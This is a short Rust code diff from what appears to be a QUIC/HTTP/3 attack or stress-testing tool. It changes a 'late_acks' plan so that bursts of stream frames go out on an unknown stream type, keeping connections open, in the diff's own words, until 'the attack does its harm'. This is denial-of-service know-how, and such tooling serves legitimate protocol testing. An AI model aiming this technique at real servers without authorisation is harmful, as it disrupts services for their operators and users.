@@ -22,15 +22,22 @@ pub(super) const PLAN: Plan = Plan {
 };
 
 fn late_acks() -> Crowd {
-    Crowd::new(2, |connection, _, now| {
+    Crowd::new(2, |connection, progress, now| {
         for _ in 0..BURST {
-            let frame = http::stream(http::uni_stream(0), 0, &[0], false);
+            // A new byte each time: repeated ones would end the connection before the attack does
+            // its harm. The server discards this stream, whose type it does not know.
+            let offset = progress.offset;
+            let frame = http::stream(http::uni_stream(UNKNOWN), offset, &[0x21], false);
+            progress.offset += 1;
             connection.send_packet(now, Space::Application, vec![frame]);
         }
     })
     .with_begin(crowd::preface)
     .with_hooks(|| Box::new(LateAcks::new()))
 }
+
+/// Index of a stream behind those of the preface.
+const UNKNOWN: u64 = 3;
 
 /// Packets of one connection in one turn.
 const BURST: usize = 8;
